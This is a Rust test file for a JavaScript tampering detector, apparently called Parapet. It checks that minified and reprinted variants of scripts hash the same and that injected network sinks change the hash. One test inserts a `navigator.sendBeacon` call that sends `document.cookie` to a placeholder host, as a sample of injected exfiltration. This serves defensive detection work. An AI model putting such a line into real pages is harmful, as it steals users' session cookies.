//! Cosmetic variants judged unchanged: every script of the corpus and the diff test data is
//! rewritten by oxc's own code generator and minifier (pinned with the parser), and the
//! normalised hash of each variant is compared with the original's.
//!
//! Two ways of hashing are measured side by side:
//! - **normalise**: Parapet's normaliser on the text as served (what `fingerprint` does);
//! - **minify first**: oxc's full minifier (compress + mangle) before the normaliser, the
//!   alternative of making minifier idioms converge by minifying everything.
//!
//! Printing, whitespace minification and renaming (mangling) are purely cosmetic: the
//! normaliser must judge all of them unchanged. The diff, whose second opinion compresses
//! both versions with oxc, must judge every variant unchanged (oxc agreeing with itself:
//! `bench/cosmetic.sh` measures other minifiers). Full compression also restructures code
//! (inlines constants, drops dead branches, merges statements); its rate is printed and held
//! to a floor just under what it measured.
#![allow(clippy::unwrap_used)]

use oxc_allocator::Allocator;
use oxc_codegen::{Codegen, CodegenOptions};
use oxc_minifier::{CompressOptions, MangleOptions, Minifier, MinifierOptions};
use oxc_parser::Parser;
use oxc_span::SourceType;
use parapet_scripts::analysis::analyse;
use parapet_scripts::analysis::diff::ScriptDiff;

#[derive(Clone, Copy, Debug)]
enum Variant {
    Reprint,
    Whitespace,
    Mangle,
    Compress,
    Full,
}

const VARIANTS: [Variant; 5] = [
    Variant::Reprint,
    Variant::Whitespace,
    Variant::Mangle,
    Variant::Compress,
    Variant::Full,
];

/// Rewrites a script with oxc; `None` if oxc cannot parse it.
fn rewrite(source: &str, v: Variant) -> Option<String> {
    let allocator = Allocator::default();
    let ret = Parser::new(&allocator, source, SourceType::script()).parse();
    if ret.panicked || ret.diagnostics.has_errors() {
        return None;
    }
    let mut program = ret.program;
    let (mangle, compress) = match v {
        Variant::Reprint | Variant::Whitespace => (None, None),
        Variant::Mangle => (Some(MangleOptions::default()), None),
        Variant::Compress => (None, Some(CompressOptions::default())),
        Variant::Full => (
            Some(MangleOptions::default()),
            Some(CompressOptions::default()),
        ),
    };
    let scoping = if mangle.is_some() || compress.is_some() {
        let options = MinifierOptions {
            mangle,
            mangle_properties: None,
            compress,
        };
        Minifier::new(options)
            .minify(&allocator, &mut program)
            .scoping
    } else {
        None
    };
    let options = match v {
        Variant::Reprint => CodegenOptions::default(),
        _ => CodegenOptions::minify(),
    };
    Some(
        Codegen::new()
            .with_options(options)
            .with_scoping(scoping)
            .build(&program)
            .code,
    )
}

fn hash(source: &str) -> Option<String> {
    analyse(source).outcome.ok().map(|p| p.normalized_hash)
}

fn scripts() -> Vec<(String, String)> {
    let root = std::env::var_os("CARGO_MANIFEST_DIR")
        .map_or_else(
            || std::path::PathBuf::from(env!("CARGO_MANIFEST_DIR")),
            std::path::PathBuf::from,
        )
        .join("testdata");
    let mut out = Vec::new();
    let manifest = std::fs::read_to_string(root.join("corpus/manifest.tsv")).unwrap();
    for line in manifest
        .lines()
        .filter(|l| !l.starts_with('#') && !l.trim().is_empty())
    {
        let rel = format!("corpus/{}", line.split('\t').next().unwrap());
        out.push((
            rel.clone(),
            std::fs::read_to_string(root.join(&rel)).unwrap(),
        ));
    }
    for rel in ["diff/widget-1.0.js", "diff/widget-1.0-injected.js"] {
        out.push((
            rel.to_owned(),
            std::fs::read_to_string(root.join(rel)).unwrap(),
        ));
    }
    out
}

#[test]
fn cosmetic_variants_are_judged_unchanged() {
    let scripts = scripts();
    println!(
        "variant      normalise   minify first   diff   (of {} scripts)",
        scripts.len()
    );
    for v in VARIANTS {
        let (mut same, mut same_min, mut same_diff, mut total) = (0, 0, 0, 0);
        let mut misses = Vec::new();
        let mut diff_misses = Vec::new();
        for (name, source) in &scripts {
            let variant = rewrite(source, v).unwrap();
            total += 1;
            if hash(source) == hash(&variant) && hash(source).is_some() {
                same += 1;
            } else {
                misses.push(name.as_str());
            }
            let a = rewrite(source, Variant::Full).unwrap();
            let b = rewrite(&variant, Variant::Full).unwrap();
            if hash(&a) == hash(&b) && hash(&a).is_some() {
                same_min += 1;
            }
            let d = ScriptDiff::between("a", &analyse(source), "b", &analyse(&variant));
            if d.comparable && !d.behaviour_changed {
                same_diff += 1;
            } else {
                diff_misses.push(name.as_str());
            }
        }
        println!(
            "{:<12} {:>5.1}%      {:>5.1}%        {:>5.1}%   misses: {}",
            format!("{v:?}"),
            100.0 * same as f64 / total as f64,
            100.0 * same_min as f64 / total as f64,
            100.0 * same_diff as f64 / total as f64,
            misses.join(" ")
        );
        // The diff's second opinion (oxc's compressor on both sides) joins every oxc rewrite.
        assert_eq!(
            same_diff, total,
            "{v:?}, judged changed by the diff: {diff_misses:?}"
        );
        match v {
            Variant::Reprint | Variant::Whitespace | Variant::Mangle => {
                assert_eq!(same, total, "{v:?} must never change the hash: {misses:?}");
            }
            Variant::Compress | Variant::Full => {}
        }
    }
}

/// Pairs rewritten by hand in the style of other minifiers (terser, esbuild, UglifyJS): the
/// fair test of "minify first", whose variants above come from the same minifier it runs.
const HAND_PAIRS: &[(&str, &str)] = &[
    (
        "var a = !0, b = void 0;",
        "var a = true;\nvar b = undefined;",
    ),
    ("x && y();", "if (x) { y(); }"),
    ("x ? y() : z();", "if (x) y(); else z();"),
    ("!function(){f()}();", "(function(){f()})();"),
    ("function f(){return a(),b}", "function f(){a();return b}"),
    (
        "function g(a){if(a)return b;return c}",
        "function g(a){return a?b:c}",
    ),
    (
        "function g(c){if(!c)return;h(c);k()}",
        "function g(c){c&&(h(c),k())}",
    ),
    (
        "function g(a,b){if(a!==b)x();else y()}",
        "function g(a,b){a===b?y():x()}",
    ),
    (
        "var s=0;for(var i=0;i<n;i++)s+=i;",
        "for(var s=0,i=0;i<n;i++)s+=i;",
    ),
    (
        "function g(){var v=a.b(1);c.d=v.e(2)}",
        "function g(){c.d=a.b(1).e(2)}",
    ),
    ("document['cookie'];", "document.cookie;"),
    ("try{f()}catch(e){g()}", "try{f()}catch{g()}"),
    ("a = a || {};", "a ||= {};"),
];

#[test]
fn hand_minified_pairs() {
    let root = std::env::var_os("CARGO_MANIFEST_DIR")
        .map_or_else(
            || std::path::PathBuf::from(env!("CARGO_MANIFEST_DIR")),
            std::path::PathBuf::from,
        )
        .join("testdata/diff");
    let widget = std::fs::read_to_string(root.join("widget-1.0.js")).unwrap();
    let widget_min = std::fs::read_to_string(root.join("widget-1.0.min.js")).unwrap();
    let mut pairs: Vec<(String, String)> = HAND_PAIRS
        .iter()
        .map(|(a, b)| ((*a).to_owned(), (*b).to_owned()))
        .collect();
    pairs.push((widget, widget_min));
    let (mut same, mut same_min) = (0, 0);
    for (a, b) in &pairs {
        if hash(a).is_some() && hash(a) == hash(b) {
            same += 1;
        }
        let (ma, mb) = (
            rewrite(a, Variant::Full).unwrap(),
            rewrite(b, Variant::Full).unwrap(),
        );
        if hash(&ma).is_some() && hash(&ma) == hash(&mb) {
            same_min += 1;
        } else {
            println!("minify first misses: {a:?} -> {ma:?} vs {mb:?}");
        }
    }
    println!(
        "hand-minified pairs: normalise {same}/{n}, minify first {same_min}/{n}",
        n = pairs.len()
    );
    assert_eq!(
        same,
        pairs.len(),
        "the normaliser must join every hand-minified pair"
    );
}

/// What oxc's printer and compressor do to real npm builds (found with the classifier
/// example's `cosmetic` mode on `bench/corpus/npm.tsv`): each pair must hash the same, and
/// each near miss beside it must not.
const NPM_IDIOMS: &[(&str, &str, &str)] = &[
    // The printer drops the parentheses of a right-nested chain.
    (
        "function f(a,b,c){return a&&(b&&c)}",
        "function f(a,b,c){return a&&b&&c}",
        "function f(a,b,c){return a&&(b||c)}",
    ),
    ("x = a || (b || c);", "x = a || b || c;", "x = a || b && c;"),
    // A literal on either side of an equality.
    (
        "if (\"object\" == typeof module) f();",
        "if (typeof module == `object`) f();",
        "if (typeof module == `object`) g();",
    ),
    (
        "r = -1 !== s.indexOf(t);",
        "r = s.indexOf(t) !== -1;",
        "r = s.indexOf(t) === -1;",
    ),
    // `typeof x != "undefined"` written as `typeof x < "u"`.
    (
        "g = \"undefined\" != typeof globalThis ? globalThis : self;",
        "g = typeof globalThis < `u` ? globalThis : self;",
        "g = typeof globalThis > `u` ? globalThis : self;",
    ),
    (
        "if (\"undefined\" != typeof Symbol && Symbol.iterator) f();",
        "typeof Symbol < \"u\" && Symbol.iterator && f();",
        "typeof Symbol > \"u\" && Symbol.iterator && f();",
    ),
    // Logical assignment in every spelling.
    (
        "function g(m){m||(m=new Map);return m.get(1)}",
        "function g(m){m||=new Map;return m.get(1)}",
        "function g(m){m&&(m=new Map);return m.get(1)}",
    ),
    (
        "function g(m){if(!m)m={};h(m)}",
        "function g(m){m||=({});h(m)}",
        "function g(m,n){n||(m={});h(m)}",
    ),
    // A `var` without a value is moved into a `for...in` head.
    (
        "function k(o){var p;for(p in o)return false;return true}",
        "function k(o){for(var p in o)return!1;return!0}",
        "function k(o){for(var p in o)return!0;return!0}",
    ),
    // A negated conditional's branches are swapped.
    (
        "v = null != a ? a : {};",
        "v = a == null ? {} : a;",
        "v = a == null ? a : {};",
    ),
    // `return void f()` is `f(); return`.
    (
        "function h(n){try{u()}catch(e){return void n(e)}w()}",
        "function h(n){try{u()}catch(e){n(e);return}w()}",
        "function h(n){try{u()}catch(e){n(e)}w()}",
    ),
    // `new` on a built-in error.
    (
        "throw new ReferenceError('x');",
        "throw ReferenceError(`y`);",
        "throw TypeError(`y`);",
    ),
    // Found on terser builds: a constant key is a member name, read or written.
    (
        "function f(o){var K=\"click\";o.t[K]=!1;return o.t[K]}",
        "function f(o){o.t.click=!1;return o.t.click}",
        "function f(o){o.t.clack=!1;return o.t.click}",
    ),
    // Found on uglify-js builds: a constant in the key of a written member is read, so it
    // is its value there too (`x[c ? K : H] = 1`, with one branch inlined).
    (
        "function f(o,t){var K=\"focus\",H=\"hover\";o.t[t?K:H]=!0;return K+H}",
        "function f(o,t){var H=\"hover\";o.t[t?\"focus\":H]=!0;return \"focus\"+H}",
        "function f(o,t){var H=\"hover\";o.t[t?\"fokus\":H]=!0;return \"focus\"+H}",
    ),
    // A constant read before its declaration (a hoisted `var`, read by a function above
    // it) is its value there too.
    (
        "(function(){w(function(o){o.t[K]=!1;return o.t[K]});var K=\"click\"})()",
        "(function(){w(function(o){o.t.click=!1;return o.t.click})})()",
        "(function(){w(function(o){o.t.clack=!1;return o.t.click})})()",
    ),
    // The strings of a function given to `setTimeout` are not code (the function is), nor
    // is the target of an `innerHTML` assignment: their literals are only strings.
    (
        "setTimeout(function(){f(\"a\")},1);",
        "setTimeout(function(){f(`b`)},1);",
        "setTimeout(function(){f(1)},1);",
    ),
    (
        "(e=d.createElement(\"div\")).innerHTML=h;",
        "(e=d.createElement(\"span\")).innerHTML=h;",
        "(e=d.createElement(\"div\")).innerText=h;",
    ),
];

#[test]
fn npm_idioms_converge() {
    for (a, same, other) in NPM_IDIOMS {
        assert!(hash(a).is_some(), "{a:?} does not parse");
        assert_eq!(hash(a), hash(same), "{a:?} vs {same:?}");
        assert_ne!(hash(a), hash(other), "{a:?} vs {other:?} must differ");
    }
}

/// Every npm idiom above, with a call to a network sink inserted, is a behaviour change.
#[test]
fn npm_idioms_still_see_injected_sinks() {
    for (a, _, _) in NPM_IDIOMS {
        let injected =
            format!("{a}\nnavigator.sendBeacon('https://collect.invalid/x', document.cookie);");
        assert_ne!(hash(a), hash(&injected), "{a:?}");
    }
}
